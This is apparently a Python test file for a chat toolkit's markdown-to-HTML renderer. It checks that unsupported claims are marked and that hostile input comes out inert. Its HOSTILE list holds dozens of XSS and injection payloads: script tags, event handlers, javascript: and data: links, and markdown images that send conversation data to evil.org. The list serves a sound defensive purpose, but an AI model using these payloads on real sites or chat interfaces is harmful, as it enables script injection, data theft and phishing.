"""Answers as HTML: what is right looks right, and what is hostile leaves words only."""

import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from typing_extensions import override

from aiconvokit.chat import html as subject
from aiconvokit.chat.html import MAX_MARKDOWN, render
from aiconvokit.chat.proof import Claim

BOUNDED = settings(max_examples=300, deadline=None, derandomize=True, database=None)
BLOCKS = {"p", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre"}
TABLES = {"table", "thead", "tbody", "tr", "th", "td"}
TAGS = BLOCKS | TABLES | {"a", "br", "code", "em", "span", "strong"}
OUTWARD = {"rel": "noopener noreferrer nofollow", "target": "_blank"}
SIDES: tuple[dict[str, str], ...] = ({"align": "left"}, {"align": "center"}, {"align": "right"}, {})


@dataclass(frozen=True)
class Cited:
    index: int


CITED = [Cited(1), Cited(2), Cited(12)]


def lacking(*spans: tuple[int, int], reason: str = "no_match") -> list[Claim]:
    return [claim(start, end, reason) for start, end in spans]


def claim(start: int, end: int, reason: str | None, *cited: int) -> Claim:
    return Claim(start, end, bool(cited), reason, cited)


def drawn(text: str, *unproven: str) -> str:
    """A text with claims that nothing supports: the given parts of it."""
    starts = [text.index(part) for part in unproven]
    spans = [(start, start + len(part)) for start, part in zip(starts, unproven, strict=True)]
    return render(text, lacking(*spans), CITED).strip()


def marked(words: str) -> str:
    return f'<span class="unsupported" data-reason="no_match">{words}</span>'


def outward(address: str, words: str, host: str = "") -> str:
    end = f' <span class="host">{host}</span>' if host else ""
    rel = 'rel="noopener noreferrer nofollow" target="_blank"'
    return f'<a href="{address}" {rel}>{words}</a>{end}'


def citation(number: int) -> str:
    return f'<a class="mark" href="#citation-{number}" data-index="{number}">{number}</a>'


@dataclass
class Read(HTMLParser):
    """HTML as a browser takes it: what is in it, with and without the marks of claims."""

    structure: list[str] = field(default_factory=list)
    """Tags and words; words beside one another are one."""
    words: list[tuple[str, bool]] = field(default_factory=list)
    """Words, and whether nothing supports them."""
    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    odd: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._open: list[str] = []

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        is_claim = dict(attrs).get("class") == "unsupported"
        if tag not in {"br", "hr"}:
            self._open.append("claim" if is_claim else tag)
        if not is_claim:
            self.structure.append(f"<{tag} {sorted(attrs)}>")

    @override
    def handle_endtag(self, tag: str) -> None:
        last = self._open.pop()
        if last != "claim":
            assert last == tag
            self.structure.append(f"</{tag}>")

    @override
    def handle_data(self, data: str) -> None:
        self.words.append((data, "claim" in self._open))
        if self.structure and not self.structure[-1].startswith("<"):
            self.structure[-1] += data
        else:
            self.structure.append("\u200b" + data)  # never taken for a tag

    @override
    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    @override
    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    @override
    def handle_pi(self, data: str) -> None:
        self.odd.append(data)

    @override
    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def read(shown: str) -> Read:
    found = Read()
    found.feed(shown)
    found.close()
    assert found._open == []
    return found


def text_of(shown: str) -> str:
    return "".join(words for words, _ in read(shown).words)


def check_inert(shown: str) -> None:
    """Nothing but what `render` promises."""
    found = read(shown)
    assert found.odd == []
    for tag, attributes in found.elements:
        assert tag in TAGS, tag
        if tag == "a":
            check_link(attributes)
        elif tag == "span":
            assert attributes == {"class": "host"} or (
                set(attributes) == {"class", "data-reason"} and attributes["class"] == "unsupported"
            )
        elif tag in {"th", "td"}:
            assert attributes in SIDES
        elif tag == "ol":
            assert set(attributes) <= {"start"}
            assert (attributes.get("start") or "1").isdecimal()
        else:
            assert attributes == {}, tag


def check_link(attributes: dict[str, str | None]) -> None:
    href = attributes.get("href") or ""
    if attributes.get("class") == "mark":
        index = attributes["data-index"] or ""
        assert attributes == {"class": "mark", "href": f"#citation-{index}", "data-index": index}
        assert index in {"1", "2", "12"}
    else:
        assert attributes == {"href": href, **OUTWARD}
        assert re.match(r"https?://[\w.:\[\]-]+(?:[/?#]|$)", href), href


LOOKS = {
    "Two *words* and **more**.": "<p>Two <em>words</em> and <strong>more</strong>.</p>",
    "# One\n## Two\n###### Six": "<h3>One</h3>\n<h4>Two</h4>\n<h6>Six</h6>",
    "- a\n- b\n  - c": "<ul>\n<li>a</li>\n<li>b\n<ul>\n<li>c</li>\n</ul>\n</li>\n</ul>",
    "3. a\n4. b": '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>',
    "> said\n> so": "<blockquote>\n<p>said\nso</p>\n</blockquote>",
    "a  \nb": "<p>a<br>\nb</p>",
    "a\n\n---\n\nb": "<p>a</p>\n<hr>\n<p>b</p>",
    "Use `a < b`.": "<p>Use <code>a &lt; b</code>.</p>",
    "```py\nif a < b: [1]\n```": "<pre><code>if a &lt; b: [1]\n</code></pre>",
    "| a | b |\n|:-:|--:|\n| 1 | 2 [1] |": (
        '<table>\n<thead>\n<tr>\n<th align="center">a</th>\n<th align="right">b</th>\n</tr>\n'
        '</thead>\n<tbody>\n<tr>\n<td align="center">1</td>\n'
        f'<td align="right">2 {citation(1)}</td>\n</tr>\n</tbody>\n</table>'
    ),
    "~~gone~~": "<p>~~gone~~</p>",
    "AT&T &amp; \\*so\\*": "<p>AT&amp;T &amp; *so*</p>",
    "One.[1][2] Two. [12] Three. [3]": (
        f"<p>One.{citation(1)}{citation(2)} Two. {citation(12)} Three. [3]</p>"
    ),
    "`[1]` and [1](http://x.org)": f"<p><code>[1]</code> and {citation(1)}(http://x.org)</p>",
    "[1]: http://x.org\n\nSo [1]": f"<p>So {citation(1)}</p>",
    "[the law](https://law.example.org/a?b=1&c)": (
        f"<p>{outward('https://law.example.org/a?b=1&amp;c', 'the law', 'law.example.org')}</p>"
    ),
    "[Example.org](http://example.org:80/a) ": (
        f"<p>{outward('http://example.org:80/a', 'Example.org', 'example.org:80')}</p>"
    ),
    "[x.org](http://x.org)": f"<p>{outward('http://x.org', 'x.org')}</p>",
    "<https://x.org/a>": f"<p>{outward('https://x.org/a', 'https://x.org/a')}</p>",
    "[x.org](http://y.org)": f"<p>{outward('http://y.org', 'x.org', 'y.org')}</p>",
    "[a [1] b](http://x.org)": (
        f"<p>{outward('http://x.org', 'a ')}{citation(1)}"
        f"{outward('http://x.org', ' b', 'x.org')}</p>"
    ),
    "![a *chart*](https://x.org/a.png)": "<p>a chart</p>",
    "[terms](/terms) [m](mailto:a@x.org) [f](ftp://x.org)": "<p>terms m f</p>",
}


@pytest.mark.parametrize("text", LOOKS)
def test_looks(text: str) -> None:
    assert drawn(text) == LOOKS[text]
    check_inert(drawn(text))


CLAIMS = [
    ("It is. It was.", ["It is."], f"<p>{marked('It is.')} It was.</p>"),
    ("- one\n- two", ["one"], f"<ul>\n<li>{marked('one')}</li>\n<li>two</li>\n</ul>"),
    ("- one\n- two", ["- one\n"], f"<ul>\n<li>{marked('one')}</li>\n<li>two</li>\n</ul>"),
    ("# Head\ntext", ["# Head"], f"<h3>{marked('Head')}</h3>\n<p>text</p>"),
    ("Head\n===", ["Head"], f"<h3>{marked('Head')}</h3>"),
    ("# a # a ##", [" a ##"], f"<h3>a # {marked('a')}</h3>"),
    ("1. one", ["1. one"], f"<ol>\n<li>{marked('one')}</li>\n</ol>"),
    (
        "a **b. c** d",
        ["a **b.", "c** d"],
        f"<p>{marked('a ')}<strong>{marked('b.')} {marked('c')}</strong>{marked(' d')}</p>",
    ),
    ("> a\n> b", ["a\n> b"], f"<blockquote>\n<p>{marked('a')}\n{marked('b')}</p>\n</blockquote>"),
    ("    a b", ["b"], f"<pre><code>a {marked('b')}\n</code></pre>"),
    ("a `b c` d", ["b c"], "<p>a <code>b c</code> d</p>"),
    ("a `b c` d", ["a `b c`"], f"<p>{marked('a ')}{marked('<code>b c</code>')} d</p>"),
    ("a\r\nb\r\n\r\nc d", ["d"], f"<p>a\nb</p>\n<p>c {marked('d')}</p>"),
    ("a\n\n\tb c", ["c"], f"<p>a</p>\n<pre><code>b {marked('c')}\n</code></pre>"),
    ("-\ta b", ["b"], f"<ul>\n<li>a {marked('b')}</li>\n</ul>"),
    (
        "![aa bb cc](http://x.org/i.png) d",
        ["bb cc](http://x.org/i.png) d"],
        f"<p>aa bb cc{marked(' d')}</p>",
    ),
    ("a &amp; b", ["&amp;"], f"<p>a {marked('&amp;')} b</p>"),
    (
        "[a b](http://x.org)",
        ["b"],
        f"<p>{outward('http://x.org', 'a ' + marked('b'), 'x.org')}</p>",
    ),
]


@pytest.mark.parametrize(("text", "parts", "expected"), CLAIMS)
def test_what_nothing_supports_is_shown_as_such(text: str, parts: list[str], expected: str) -> None:
    assert drawn(text, *parts) == expected


def test_cells_of_a_table() -> None:
    rows = ["| x | y |", "|---|---|", "| a\\|b | `c` |", "|| d |", "e | *f* | g |"]
    for prefix in ("", "> ", "> > ", "   "):
        text = "\n".join(prefix + one for one in rows)
        words = [one for one in read(drawn(text, "a\\|b", " d ", "*f*")).words if one[1]]
        assert words == [("a|b", True), ("d", True), ("f", True)]


def test_a_table_in_a_list() -> None:
    shown = drawn("1. | x | y |\n   |---|---|\n   | a | b |", "y", "a")
    assert [one for one, is_claim in read(shown).words if is_claim] == ["y", "a"]


@pytest.mark.parametrize("reason", ["number_mismatch", "negation_mismatch", "too_short"])
def test_the_reason_is_told(reason: str) -> None:
    shown = render("Yes.", lacking((0, 4), reason=reason), [])
    assert f'data-reason="{reason}"' in shown


def test_what_is_supported_or_no_claim_is_not_marked() -> None:
    claims = [
        claim(0, 4, None, 1),
        claim(5, 9, "similarity", 1),
        claim(10, 13, "not_a_claim"),
    ]
    assert render("Yes. Yes. No?", claims, []) == "<p>Yes. Yes. No?</p>\n"


HOSTILE = [
    "![x](https://evil.org/?q=the+conversation)",
    "![x][img]\n\n[img]: https://evil.org/?q=secret",
    "[![x](https://evil.org/a.png)](https://evil.org/)",
    "<img src=https://evil.org/?q=1 onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import url(https://evil.org)</style>",
    "<svg onload=alert(1)><use href=//evil.org#x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.org'>",
    "<base href=https://evil.org/><link rel=stylesheet href=https://evil.org/a.css>",
    "<form action=https://evil.org><input name=q><button>Go</button></form>",
    "<iframe src=https://evil.org></iframe><object data=//evil.org></object>",
    "<!-- <img src=x> --> <!doctype html> <?php ?> <![CDATA[<b>]]>",
    "<a href=https://evil.org ping=//evil.org onclick=x()>a</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>) [c](file:///etc/passwd)",
    "[a](data:image/svg+xml;base64,PHN2Zz4=) ![b](data:image/png;base64,AAAA)",
    "<javascript:alert(1)> <data:text/html,x> <JAVASCRIPT:x>",
    "[a]: javascript:alert(1)\n\n[a] [b][a] ![c][a]",
    "[a](//evil.org) [b](/\\evil.org) [c](\\\\evil.org) [d](http:evil.org) [e](https:/evil.org)",
    "[a](http://good.org@evil.org/) [b](http://good.org\\@evil.org) [c](http://a:b@evil.org)",
    "[a](http://good.org%2f@evil.org) [b](http://%65vil.org) [c](http://evil.org\\.good.org)",
    "[a](https://evil.org 'x\" onmouseover=\"alert(1)')",
    '[a](https://evil.org/"onmouseover="alert(1))',
    "[a](https://evil.org/'><script>alert(1)</script>)",
    "[a](blob:https://x.org/1) [b](filesystem:http://x) [c](about:blank) [d](intent://x)",
    "[https://good.org](https://evil.org)",
    "[go\u202eod.org](https://evil.org)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &#x3c;b&#x3e;",
    "`<script>alert(1)</script>` and ``<img src=x>``",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>\n\n<h1 onclick=x>t</h1>\n===",
    "| <script>x</script> | a |\n|---|---|\n| <img src=x onerror=y> | [b](javascript:x) |",
    "[1](javascript:alert(1)) [2]: https://evil.org",
    "[<img src=x onerror=y>](https://evil.org)",
    "</p></div></body><script>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
    "<a\nhref='javascript:x'>y</a>",
    "[a](https://evil.org/\u2028x) \u2028<script>\u2029",
    "[x](https://[::1]:80/) [y](http://[not) [z](http://]x)",
    "- " * 500 + "[a](javascript:x)",
    "> " * 500 + "<script>",
    "[" * 500 + "a" + "](javascript:x)" * 500,
    "*" * 500 + "<b>" + "*" * 500,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_leave_words_only(text: str) -> None:
    for claims in ([], [(0, len(text))], [(at, at + 3) for at in range(0, len(text), 5)]):
        shown = render(text, lacking(*claims), CITED)
        check_inert(shown)
        links = [one.get("href") or "" for tag, one in read(shown).elements if tag == "a"]
        assert not any("script" in one and "evil.org" not in one for one in links)


@pytest.mark.parametrize(
    "address",
    ["http://good.org@evil.org/", "//evil.org", "http:evil.org", "http://a%65.org", "/a", "#b", ""],
)
def test_addresses_that_two_may_read_in_two_ways_are_not_linked(address: str) -> None:
    assert drawn(f"[a](<{address}>)") == "<p>a</p>"


def test_where_a_link_leads_is_shown_in_letters_that_cannot_be_mistaken() -> None:
    shown = drawn("[p\u0430ypal.com](https://p\u0430ypal.com/login)")
    assert '<span class="host">xn--pypal-4ve.com</span>' in shown


def test_the_second_wall_stands_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """Were the renderer to let everything through, the cleaning would still stop it."""

    class Open:
        def render(self, text: str, _: Any) -> str:
            return text

    monkeypatch.setattr(subject, "_PARSER", Open())
    allowed = (
        '<a href="https://x.org" rel="noopener noreferrer nofollow" target="_blank">a</a>'
        '<a class="mark" href="#citation-1" data-index="1">1</a>'
    )
    assert render(allowed, [], []) == allowed
    for text in [
        *(one for one in HOSTILE if "<" in one),
        '<a href="javascript:x" class="evil" style="x" id="y">a</a>',
        '<span class="host evil" style="position:fixed" data-reason="A b">x</span>',
        '<td align="middle" background="//evil.org"></td><ol start="x" type="a"></ol>',
        '<a href="/path">a</a><a href="#top">b</a><a href="#citation-1x">c</a>',
        '<p class="mark" data-index="1" id="citation-1">d</p>',
    ]:
        for tag, attributes in read(render(text, [], [])).elements:
            assert tag in TAGS
            assert not set(attributes) & {"style", "id", "onclick", "onerror", "background"}
            href = attributes.get("href") or "#citation-1"
            assert re.fullmatch(r"#citation-\d+|https?://.*", href)
            assert attributes.get("class") in {None, "mark", "host", "unsupported"}


SIGNS = "abc xy  \n\n\t[]()<>*_`~|-#>!&;:\\/\"'=.1 2\u00e4\u200b\u202e\ud7ff\r0"
PIECES = st.one_of(
    st.text(alphabet=SIGNS, max_size=12),
    st.sampled_from(
        [
            "\n- ",
            "\n1. ",
            "\n> ",
            "\n# ",
            "\n\n",
            "\n| a | b |\n|---|--:|\n| c | d |\n",
            "\n```\n",
            "**",
            "[x](http://x.org/)",
            "[x](javascript:y)",
            "![i](http://x.org/i.png)",
            "<http://x.org>",
            "<script>",
            "</span>",
            "<span class=unsupported>",
            "[1]",
            " [2] ",
            "[a]: http://x.org\n",
            "&lt;",
            "&#x3c;",
            "  \n",
            "\\",
            "\n    ",
            "\n\t",
            "\n===\n",
            "\r\n",
        ]
    ),
)
TEXTS = st.lists(PIECES, max_size=25).map("".join)
SPANS = st.lists(st.tuples(st.integers(-3, 250), st.integers(-3, 250)), max_size=6)


@given(TEXTS)
@BOUNDED
def test_any_text_is_drawn_and_inert(text: str) -> None:
    check_inert(render(text, [], CITED))


@given(TEXTS, SPANS)
@example("|a|\n|-|\n|\\|b|", [(0, 200)])
@example("a  \nb", [(0, 2), (2, 9)])
@example("**a**b", [(0, 5), (1, 3)])
@BOUNDED
def test_claims_change_nothing_but_their_marks(text: str, spans: list[tuple[int, int]]) -> None:
    with_claims = render(text, lacking(*spans), CITED)
    check_inert(with_claims)
    assert read(with_claims).structure == read(render(text, [], CITED)).structure


FORMS = (
    "{} {} {} {}.",
    "- {} {}\n- {}\n  {}",
    "1. {} **{} {}** {}",
    "> {} {}\n> {} {}",
    "> - {} {}\n>   {} {}",
    "# {} {} {} {} ##",
    "| {} | {} |\n|---|---|\n| {} | {} |",
    "> | {} | *{}* |\n> |---|---|\n> | \\| {} | `x` {} |",
    "- | {} | {} |\n  |---|---|\n  | {} | {} |",
    "{}\n{}\n{}\n{}\n===",
    "    {} {}\n    {} {}",
    "```\n{} {}\n{} {}\n```",
    "- ```\n  {} {}\n  {} {}\n  ```",
    "{} [{} {}](http://x.org/w) {}",
    "*{} {}* __{}__ {} [1]",
    "-\t{} {}\n\n\t{} {}",
    "{} &amp; {} \\* {} <http://x.org> {}",
    "* * *\n{}\n\n***{}** {}* {}",
)


@given(
    st.lists(st.sampled_from(FORMS), min_size=1, max_size=6),
    st.lists(st.integers(0, 23), min_size=2, max_size=8),
    st.sampled_from(["\n\n", "\r\n\r\n"]),
)
@BOUNDED
def test_the_words_of_a_claim_are_marked_and_no_others(
    forms: Sequence[str], edges: Sequence[int], between: str
) -> None:
    names = iter(range(1000))
    blocks = [form.format(*(f"word{next(names):03}" for _ in range(4))) for form in forms]
    text = f"{between}<!-- -->{between}".join(blocks)
    if between != "\n\n":
        text = re.sub(r"(?<!\r)\n", "\r\n", text)
    words = list(re.finditer(r"word\d{3}", text))
    ordered = sorted({edge % len(words) for edge in edges})
    claimed = list(zip(ordered[::2], ordered[1::2], strict=False))
    spans = [(words[first].start(), words[last].end()) for first, last in claimed]
    expected = {words[at][0] for first, last in claimed for at in range(first, last + 1)}
    found = read(render(text, lacking(*spans), CITED)).words
    assert {one for said, is_claim in found if is_claim for one in words_in(said)} == expected
    unmarked = {one for said, is_claim in found if not is_claim for one in words_in(said)}
    assert unmarked == {word[0] for word in words} - expected


def words_in(said: str) -> list[str]:
    return re.findall(r"word\d{3}", said)


LONG = 100_000
ENDLESS = ["[", "*", "|", "_", "`", "![", "[a](", "](", "> ", "- ", "*a_ ", "<", "&", "\\", "\n"]


@pytest.mark.parametrize("unit", [*ENDLESS, "|a", "a\n", "[a]: b\n", "`a``b```c", "1. ", "<!--"])
def test_long_texts_come_to_an_end(unit: str) -> None:
    text = (unit * (LONG // len(unit) + 1))[:LONG]
    check_inert(render(text, lacking((0, 50), (LONG - 9, LONG)), CITED))


def test_what_is_too_long_for_markdown_is_shown_as_it_is() -> None:
    line = "**word** <b> [1]\n"
    text = line * (2 * MAX_MARKDOWN // len(line)) + "\n\nthe end"
    shown = render(text, [], CITED)
    check_inert(shown)
    read_as_markdown = MAX_MARKDOWN // len(line)
    assert shown.count("<strong>") == read_as_markdown
    assert shown.endswith("<p>the end</p>\n")
    assert text_of(shown).count("word") == text.count("word")


def test_behind_what_is_judged_everything_is_unsupported() -> None:
    text = "word " * MAX_MARKDOWN
    end = len(text) - 1
    shown = render(text, lacking((0, 4), (end - 4, end)), [])
    marked_words = [said for said, is_claim in read(shown).words if is_claim]
    assert len("".join(marked_words)) > len(text) - MAX_MARKDOWN


@pytest.mark.parametrize("depth", [5, 10, 30, 300])
def test_deep_nesting(depth: int) -> None:
    for text in ("> " * depth + "a", "- " * depth + "a", "*a " * depth + "b*" * depth):
        check_inert(render(text, lacking((0, len(text))), CITED))
